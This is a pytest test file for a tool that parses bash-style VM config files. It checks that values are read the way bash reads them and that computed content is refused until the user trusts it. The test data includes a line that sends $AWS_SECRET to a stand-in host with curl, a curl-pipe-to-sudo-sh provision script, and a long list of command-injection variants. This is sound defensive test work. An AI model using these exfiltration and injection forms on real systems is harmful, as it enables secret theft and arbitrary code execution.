"""vmoat.conf: plain assignments mean what they mean to bash; whatever computes never runs."""

from __future__ import annotations

import subprocess
from contextlib import suppress
from pathlib import Path

import pytest

from vmoat.config import settings as config
from vmoat.config import trust
from vmoat.config.settings import HostSize, Port, Settings
from vmoat.config.shell_form import Computes, parse
from vmoat.errors import Code, VmoatError

HOST = HostSize(64, 256)


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("STATE", "CONFIG", "DATA"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(tmp_path / name.lower()))
    path = tmp_path / "github" / "repo"
    (path / ".git").mkdir(parents=True)
    return path


def load(tree: Path, **env: str) -> Settings:
    home = str(tree.parents[1])
    return config.load(tree, tree, env={"HOME": home, **env}, flags={}, host=HOST)


def refused(tree: Path, **env: str) -> VmoatError:
    with pytest.raises(VmoatError) as caught:
        load(tree, **env)
    assert caught.value.code == Code.CONFIG
    assert caught.value.hint
    return caught.value


def agree(tree: Path) -> trust.Pending:
    asked = trust.pending(tree, tree, env={"HOME": str(tree.parents[1])})
    trust.grant(asked)
    return asked


# -- what works unchanged --

WILD = """\
# vmoat.conf
VM_CPU=6; VM_MEMORY=16; VM_DISK=80   # sizes
VM_MOUNT="$HOME/github"
export PROVISION_APT="git jq curl ca-certificates"
PROVISION_SCRIPT='command -v tool >/dev/null 2>&1 || curl -sfS https://example.org/t.sh | sudo sh'
PROVISION_SEED=".env.keys config/local.yaml"
MY_NAME=local
CMD_UP="INSTANCE_NAME=$MY_NAME VERSION=${MY_NAME} ./deploy.sh local"
CMD_TEST=make\\ test
EXPOSE_PORTS=(30001
  18003 # the database
  "5432:15432")
HEALTH_URL=localhost:30001/health
VM_TYPE=""
"""


def test_the_shapes_of_the_shell_tool(tree: Path) -> None:
    (tree / "vmoat.conf").write_text(WILD)
    (tree / "vmoat.local.conf").write_text('VM_CPU=2\nCMD_DOWN="echo $MY_NAME"\n')
    got = load(tree)
    assert (got.vm_cpu, got.vm_memory, got.vm_disk) == (2, 16, 80)
    assert got.vm_mount == str(tree.parent)
    assert got.provision_apt == ("git", "jq", "curl", "ca-certificates")
    assert got.provision_script.startswith("command -v tool >/dev/null 2>&1 || curl")
    assert got.provision_seed == (".env.keys", "config/local.yaml")
    assert got.up_command == "INSTANCE_NAME=local VERSION=local ./deploy.sh local"
    assert got.test_command == "make test"
    assert got.down_command == "echo local"
    assert got.tunnel_ports == (Port(30001), Port(18003), Port(5432, 15432))
    assert (got.health_url, got.vm_type, got.form) == ("localhost:30001/health", "", "shell")
    assert str(got.origins["vm.cpu"]) == "vmoat.local.conf:1"
    assert str(got.origins["tunnel.ports"]) == "vmoat.conf:10"
    assert got.warnings == ()


PLAIN = [
    ("A=", ""),
    ("A='$(touch canary)'", "$(touch canary)"),
    ("A=\\$\\(touch\\ canary\\)", "$(touch canary)"),
    ('A="\\$(x) \\` \\" \\\\ \\n \\\n."', '$(x) ` " \\ \\n .'),
    ("A='a'\"b\"c\\ d", "abc d"),
    ("A=x#y # z", "x#y"),
    ("A=~", "/h"),
    ("A=~/x:~/y", "/h/x:/h/y"),
    ('A="~/x"', "~/x"),
    ("A=x~/y", "x~/y"),
    ("B=1 A=$B$B", "11"),
    ("A=1; A+=2", "12"),
    ("A=$'a\\n\\x41\\'\\101'", "a\nA'A"),
    ("A=$'\\u00e9'", "é"),
    ("A=*.c", "*.c"),
    ("A={a,b}[c]?", "{a,b}[c]?"),
    ("A=a\\\nb", "ab"),
    ("A=(1 2 '3 4' \"$HOME\")", ("1", "2", "3 4", "/h")),
    ("A=( # c\n 1\n# ) d\n2 )", ("1", "2")),
    ("A=(); A+=(x)", ("x",)),
    ("export A=1 B", "1"),
    ("export A=~/x", "/h/x"),
    ("A=${VM_CPU:-4}", "4"),
    ("A=${VM_CPU-}", ""),
    ("B=7; A=${B:-4}", "7"),
    ("B=; A=${B:-x y}${B-z}", "x y"),
    ("A=a=b", "a=b"),
    ("A='a\nb'", "a\nb"),
    ("A=$", "$"),
    ('A="5$ 6$"', "5$ 6$"),
    ("A='if x; then'", "if x; then"),
    ("A=\u00fc\u2603", "\u00fc\u2603"),
    ("  A=1\t;\tB=2;", "1"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "value"), PLAIN, ids=[row[0] for row in PLAIN])
def test_plain_assignments_mean_what_bash_says(
    text: str, value: str | tuple[str, ...], tmp_path: Path
) -> None:
    assert parse(text, "vmoat.conf", {"HOME": "/h"})["A"].value == value
    done = subprocess.run(
        ["bash", "-c", text + '\nprintf "%s\\0" "${A[@]}"'], cwd=tmp_path, check=True,
        stdout=subprocess.PIPE, env={"HOME": "/h", "LC_ALL": "C.UTF-8"},
    )  # fmt: skip
    expected = [value] if isinstance(value, str) else list(value)
    assert done.stdout.decode().split("\0")[:-1] == expected


def test_own_variables_pass_and_a_misspelt_key_is_said(tree: Path) -> None:
    (tree / "vmoat.conf").write_text("MY_OWN=1\nCMD_UPP=x\n")
    got = load(tree)
    assert got.up_command == ""
    assert got.warnings == ("vmoat.conf:2: CMD_UPP is no key of vmoat; did you mean CMD_UP?",)


def test_only_vmoats_own_keys_come_from_the_environment(tree: Path) -> None:
    (tree / "vmoat.conf").write_text("VM_CPU=${VM_CPU:-4}\n")
    assert load(tree, VM_CPU="9").vm_cpu == 9
    assert load(tree).vm_cpu == 4
    (tree / "vmoat.conf").write_text('CMD_UP="curl evil.example/$AWS_SECRET"\n')
    error = refused(tree, AWS_SECRET="s3cret")
    assert "uses $AWS_SECRET" in error.message
    assert "s3cret" not in str(error)


BAD = [
    ("VM_CPU=four", "vmoat.conf:1: VM_CPU must be a whole number, not 'four'", "VM_CPU=4"),
    ("\n\nVM_DISK=-1", "vmoat.conf:3: VM_DISK must be at least 4 (GiB), not -1", "VM_DISK=60"),
    ("VM_CPU=(1 2)", "vmoat.conf:1: VM_CPU must be a whole number", "VM_CPU=4"),
    ("CMD_UP=(a b)", "vmoat.conf:1: CMD_UP must be one text, not a list", "CMD_UP="),
    ('EXPOSE_PORTS="80 70000"', "vmoat.conf:1: EXPOSE_PORTS holds port 70000", "8080"),
    ('PROVISION_SEED="../x"', "vmoat.conf:1: PROVISION_SEED must hold paths inside", ".env"),
    ('VM_MOUNT="$HOME/git"', "does not lie under VM_MOUNT", "move the worktree"),
    ("\nA='x", "vmoat.conf:2: a ' quote begins here and never ends", "close it"),
    ('A="x\n\n', 'vmoat.conf:1: a " quote begins here and never ends', "close it"),
    ("A=(x\n", "vmoat.conf:1: an array begins here and never ends", "close it"),
    ("A=1\r\nB=2\r\n", "vmoat.conf:1: has Windows line ends", "dos2unix"),
    ("A=x\0y", "vmoat.conf:1: holds a NUL byte", "remove"),
    ("A=1\nB=\udcff", "vmoat.conf:2: is not UTF-8", "UTF-8"),
    ("A=" + "x" * 9999 + ";" + "A=$A$A;" * 40, "expands to megabytes", "fewer"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "message", "cure"), BAD, ids=[row[0][:30] for row in BAD])
def test_bad_values_name_file_line_key_and_cure(
    tree: Path, text: str, message: str, cure: str
) -> None:
    (tree / "vmoat.conf").write_bytes(text.encode(errors="surrogateescape"))
    error = refused(tree)
    assert message in error.message
    assert cure in error.hint


# -- what computes --

HOSTILE = [
    'A="$(touch canary)"',
    "A=`touch canary`",
    'A="`touch canary`"',
    "A=${B:=$(touch canary)}",
    "A=${B:-$(touch canary)}",
    'A="${B:-`touch canary`}"',
    "A=${!B}",
    "A=$((x[$(touch canary)]))",
    "A=$[x[$(touch canary)]]",
    "A[$(touch canary)]=1",
    "A=([$(touch canary)]=1)",
    "A=(1 $(touch canary))",
    "A=(1\n`touch canary`)",
    "A=( {a,b} )",
    "A=( * )",
    "declare -i A='x[$(touch canary)]'",
    "typeset A=1; touch canary",
    "readonly A=1; touch canary",
    "PS4='$(touch canary)'; set -x; A=1",
    "export BASH_ENV=canary.sh; bash -c true; touch canary",
    "PROMPT_COMMAND='touch canary'; eval $PROMPT_COMMAND",
    "cat <<EOF\n$(touch canary)\nEOF",
    "A=1 touch canary",
    "A=1 B=2 touch canary",
    "A= touch canary",
    "touch canary",
    "\n\n  touch canary # A=1",
    "A=1;touch canary",
    "A=1&touch canary",
    "A=1&&touch canary",
    "A=1||touch canary;touch canary",
    "A=1|touch canary",
    "A=1 >canary",
    ">canary",
    "A=<(touch canary)",
    "A=x>(touch canary)",
    "tou\\\nch canary",
    "A=\"$\\\n(touch canary)\"",
    "A=x\\\n; touch canary",
    "coproc touch canary",
    "eval 'touch canary'",
    "trap 'touch canary' EXIT",
    "CMD_UP() { touch canary; }; CMD_UP",
    "CMD_UP () { touch canary; }; CMD_UP",
    "function CMD_UP { touch canary; }; CMD_UP",
    "((x[$(touch canary)]))",
    "[[ -n $(touch canary) ]]",
    "[ -n $(touch canary) ]",
    "{ touch canary; }",
    "( touch canary )",
    "! touch canary",
    "if touch canary; then A=1; fi",
    "for A in 1; do touch canary; done",
    "while touch canary; do break; done",
    "case x in x) touch canary;; esac",
    "source ./evil.sh",
    ". ./evil.sh",
    "A=1; . evil.sh",
    "export -f A; touch canary",
    "export $(touch canary)",
    "export A=$(touch canary)",
    "A=$'\\n'$(touch canary)",
    "A=$'x\\'y'; touch canary; B=$(touch canary)",
    "A='a'\"$(touch canary)\"'b'",
    "A=\"'$(touch canary)'\"",
    "A='\\'; touch canary #'",
    "A=$\"$(touch canary)\"",
    "A=~$(touch canary)",
    "A=~root",
    "IFS=,; A=(1,2); touch canary",
    "A=(1 2); A=$(touch canary)",
    "A+=$(touch canary)",
    "A=(x)$(touch canary)",
    "A=${B//x/$(touch canary)}",
    "A=${B@P}",
    "A=$1; touch canary",
    "alias A='touch canary'; A",
    "time touch canary",
    "# x \\\ntouch canary",
    "A='\n'; touch canary",
    "select A in 1; do touch canary; done </dev/null",
    "test -e canary || touch canary",
    "A=1;; touch canary",
    "SECONDS=x[\\$(touch\\ canary)]",
    "A\u00e9=1; touch canary",
]  # fmt: skip


def test_there_are_many_hostile_files() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", ["vmoat.conf", "vmoat.local.conf"])
def test_none_of_a_hostile_branch_runs(
    tree: Path, name: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tree / "evil.sh").write_text("touch canary\n")
    (tree / name).write_text(text + "\n")
    monkeypatch.chdir(tree)
    before = set(tree.rglob("*"))
    error = refused(tree)
    assert error.message.startswith(f"{name}:")
    assert "vmoat trust" in error.hint or "never ends" in error.message or "source" in error.hint
    # Looking at what trust would allow runs nothing either.
    asked = None
    with suppress(VmoatError):
        asked = trust.pending(tree, tree, env={"HOME": "/h"})
    if asked:
        assert asked.wishes
        assert not asked.trusted
    assert set(tree.rglob("*")) == before


def test_what_computes_is_classified_and_not_only_refused() -> None:
    for text in HOSTILE:
        with pytest.raises(Computes) as caught:
            parse(text, "vmoat.conf", {"HOME": "/h"})
        assert caught.value.why


# -- once trusted --


def test_a_trusted_file_is_run_by_bash(tree: Path) -> None:
    (tree / "lib").mkdir()
    (tree / "lib" / "common.sh").write_text("VM_MEMORY=12\n")
    (tree / "vmoat.conf").write_text(
        'DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n'
        'source "$DIR/lib/common.sh"\n'
        "VM_CPU=$(( 1 + 2 ))\necho noise\n"
        "EXPOSE_PORTS=($(seq 8001 8002) '90:91')\n"
        "CMD_UP=\"$(printf 'a\\nb')\"\nset -eu\n"
    )
    (tree / "vmoat.local.conf").write_text(
        "VM_DISK=77\nprintf() { touch canary; }\nfalse || true\n"
    )
    error = refused(tree)
    assert "vmoat.conf:1: is a program: it runs a command in $(…)" in error.message
    asked = agree(tree)
    assert set(asked.files) == {"lib/common.sh", "vmoat.conf", "vmoat.local.conf"}
    got = load(tree)
    assert (got.vm_cpu, got.vm_memory, got.vm_disk) == (3, 12, 77)
    assert got.tunnel_ports == (Port(8001), Port(8002), Port(90, 91))
    assert got.up_command == "a\nb"
    where = {key: str(got.origins[key]) for key in ("vm.cpu", "vm.memory", "vm.disk")}
    assert where == {
        "vm.cpu": "vmoat.conf:3", "vm.memory": "lib/common.sh:1", "vm.disk": "vmoat.local.conf:1",
    }  # fmt: skip
    assert tree / "lib" / "common.sh" in got.files
    assert not (tree / "canary").exists()


@pytest.mark.parametrize("victim", ["vmoat.conf", "lib/a.sh", "lib/b.sh", "bin/cpus"])
def test_one_changed_byte_voids_trust_in_sourced_files_too(tree: Path, victim: str) -> None:
    for folder in ("lib", "bin"):
        (tree / folder).mkdir()
    (tree / "vmoat.conf").write_text("source lib/a.sh\nVM_CPU=$(bash ./bin/cpus)\n")
    (tree / "lib" / "a.sh").write_text('if true; then . "lib/b.sh"; fi\n')
    (tree / "lib" / "b.sh").write_text("VM_DISK=9\n")
    (tree / "bin" / "cpus").write_text("echo 2\n")
    agree(tree)
    assert (load(tree).vm_cpu, load(tree).vm_disk) == (2, 9)
    path = tree / victim
    path.write_text(path.read_text() + " ")
    assert "have not agreed" in refused(tree).message


def test_a_sourced_file_that_appears_voids_trust(tree: Path) -> None:
    (tree / "vmoat.conf").write_text("source ./later.sh 2>/dev/null\nVM_CPU=2\n")
    agree(tree)
    assert load(tree).vm_cpu == 2
    (tree / "later.sh").write_text("touch canary\n")
    refused(tree)
    assert not (tree / "canary").exists()


def test_a_source_that_trust_cannot_cover_is_refused(tree: Path) -> None:
    (tree / "vmoat.conf").write_text("A=1\nfor f in conf.d/*; do source $f; done\n")
    error = refused(tree)
    assert "vmoat.conf:2: sources a file that only bash can name" in error.message


def test_the_environment_cannot_make_bash_run_more(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tree / "env.sh").write_text("touch canary\n")
    monkeypatch.setenv("BASH_ENV", str(tree / "env.sh"))
    monkeypatch.setenv("BASH_FUNC_echo%%", "() { touch canary; }")
    monkeypatch.setenv("CMD_UP", "not the file's")
    (tree / "vmoat.conf").write_text("VM_CPU=$(echo 3)\n")
    agree(tree)
    got = load(tree)
    assert (got.vm_cpu, got.up_command) == (3, "")
    assert not (tree / "canary").exists()


@pytest.mark.parametrize(
    ("text", "message"),
    [("exit 0", "bash didn't come to the end"), ("if", "bash didn't come to the end")],
)
def test_a_trusted_file_that_breaks(tree: Path, text: str, message: str) -> None:
    (tree / "vmoat.conf").write_text(text + "\n")
    agree(tree)
    assert message in refused(tree).message


def test_a_trusted_file_that_never_ends(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vmoat.config.computed.TIMEOUT", 0.5)
    (tree / "vmoat.conf").write_text("sleep 60\n")
    agree(tree)
    assert "bash was not done with it" in refused(tree).message
